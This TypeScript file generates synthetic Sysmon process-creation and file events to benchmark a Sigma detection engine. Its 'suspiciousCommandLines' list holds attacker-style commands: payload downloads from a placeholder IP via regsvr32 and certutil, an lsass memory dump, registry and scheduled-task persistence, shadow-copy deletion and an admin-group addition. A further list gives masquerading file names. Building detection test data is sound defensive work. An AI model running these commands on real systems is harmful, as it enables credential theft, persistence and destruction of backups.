import { createDraw, type Draw } from "./sigma-perturb.ts";

/*
 * Events of the shape that rsigma measures itself with (scripts/perf/gen_events.py of
 * timescale/rsigma: its "structured_windows" and "sysmon_file_event" lanes): the same fields, as many
 * different values of each, and the same share of suspicious ones. The values are our own, and its
 * process creations get the `Channel` that a log source is known by.
 */

const system32 = "C:\\Windows\\System32\\";

const images = [
  ...["svchost.exe", "tasklist.exe", "taskhostw.exe", "dllhost.exe", "spoolsv.exe"].map(
    (name) => system32 + name,
  ),
  ...["sihost.exe", "wbem\\WmiPrvSE.exe"].map((name) => system32 + name),
  "C:\\Windows\\explorer.exe",
  "C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe",
  "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe",
];

const commandLines = [
  `${system32}svchost.exe -k LocalService -p -s nsi`,
  "tasklist /fo csv /nh",
  '"C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility',
  `${system32}dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`,
  '"C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe" -osint',
  `${system32}wbem\\WmiPrvSE.exe -Embedding`,
  `${system32}taskhostw.exe KEYROAMING`,
  "C:\\Windows\\explorer.exe /NoUACCheck",
];

const suspiciousCommandLines = [
  "powershell.exe -w hidden -nop -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA=",
  "regsvr32.exe /s /u /i:http://203.0.113.9/a.sct scrobj.dll",
  "certutil.exe -f -urlcache http://203.0.113.9/b.bin C:\\Users\\Public\\b.exe",
  "whoami /all",
  "procdump64.exe -ma lsass.exe C:\\Users\\Public\\l.dmp",
  "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\Users\\Public\\b.exe",
  "wmic process call create C:\\Users\\Public\\b.bat",
  "vssadmin.exe delete shadows /all /quiet",
  "schtasks /create /tn Sync /tr C:\\Users\\Public\\b.exe /sc minute /ru SYSTEM",
  "net localgroup administrators guest /add",
];

const parents = [
  ...["services.exe", "cmd.exe", "userinit.exe", "WindowsPowerShell\\v1.0\\powershell.exe"].map(
    (name) => system32 + name,
  ),
  "C:\\Windows\\explorer.exe",
];

const users = [
  ...["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE"],
  ...["EXAMPLE\\ada", "EXAMPLE\\grace", "EXAMPLE\\svc-build"],
];

const hosts = ["pc-0101", "pc-0102", "srv-print", "srv-dc02", "nb-77"];

const files = [
  "C:\\Users\\ada\\Downloads\\minutes.pdf",
  "C:\\Users\\ada\\Documents\\plan.xlsx",
  "C:\\Users\\ada\\AppData\\Local\\Temp\\edge_setup.log",
  "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\history.bin",
  "C:\\Users\\ada\\AppData\\Roaming\\Thunderbird\\Profiles\\k2.default\\global.sqlite",
  "C:\\Windows\\Temp\\setup.log",
];

const suspiciousFiles = [
  "C:\\Users\\ada\\Downloads\\minutes.pdf.exe",
  "C:\\Users\\ada\\Downloads\\bill.doc.scr",
  "C:\\Users\\Public\\b.exe",
  "C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\b.exe",
  "C:\\Windows\\Temp\\lsasss.exe",
];

const hex = (draw: Draw, length: number): string =>
  Array.from({ length }, () => Math.floor(draw() * 16).toString(16)).join("");

const guid = (draw: Draw): string => [8, 4, 4, 4, 12].map((length) => hex(draw, length)).join("-");

const oneOf = (draw: Draw, values: readonly string[]): string =>
  values[Math.floor(draw() * values.length)] ?? "";

const number = (draw: Draw): number => 1_000 + Math.floor(draw() * 64_000);

const time = (draw: Draw): string => {
  const digits = (below: number, count: number) =>
    String(Math.floor(draw() * below)).padStart(count, "0");
  return `2026-03-02 09:${digits(60, 2)}:${digits(60, 2)}.${digits(1_000, 3)}`;
};

const channel = "Microsoft-Windows-Sysmon/Operational";

function processCreation(draw: Draw): object {
  const isSuspicious = draw() < 0.02;
  const line = oneOf(draw, isSuspicious ? suspiciousCommandLines : commandLines);
  const first = (line.split(" ")[0] ?? "").replaceAll('"', "");
  const image = first.startsWith("C:\\Windows") ? first : oneOf(draw, images);
  return {
    EventID: 1,
    Channel: channel,
    ...{ Image: image, CommandLine: line, ParentImage: oneOf(draw, parents) },
    ...{ ParentCommandLine: oneOf(draw, commandLines), User: oneOf(draw, users) },
    IntegrityLevel: oneOf(draw, ["Medium", "High", "System"]),
    CurrentDirectory: "C:\\Windows\\system32\\",
    ...{ LogonId: `0x${hex(draw, 5)}`, ProcessId: number(draw), ParentProcessId: number(draw) },
    ...{ ProcessGuid: guid(draw), Hashes: `SHA256=${hex(draw, 64).toUpperCase()}` },
    OriginalFileName: image.slice(image.lastIndexOf("\\") + 1),
    ...{ Computer: oneOf(draw, hosts), UtcTime: time(draw) },
    ...{ product: "windows", category: "process_creation" },
  };
}

function fileEvent(draw: Draw): object {
  const host = oneOf(draw, hosts);
  return {
    EventID: "11",
    ...{ Channel: channel, Provider_Name: "Microsoft-Windows-Sysmon", Computer: host },
    Image: oneOf(draw, images.slice(-5)),
    TargetFilename: oneOf(draw, draw() < 0.05 ? suspiciousFiles : files),
    ...{ CreationUtcTime: time(draw), ProcessGuid: guid(draw), ProcessId: number(draw) },
    User: `${host}\\ada`,
    ...{ product: "windows", category: "file_event" },
  };
}

export type LaneName = "structured" | "file";

/** A block of lines: so many events of a lane, the same each time. */
export function laneBlock(name: LaneName, events: number): Buffer {
  const draw = createDraw(name === "structured" ? 23 : 103);
  const make = name === "structured" ? processCreation : fileEvent;
  const lines = Array.from({ length: events }, () => `${JSON.stringify(make(draw))}\n`);
  return Buffer.from(lines.join(""));
}
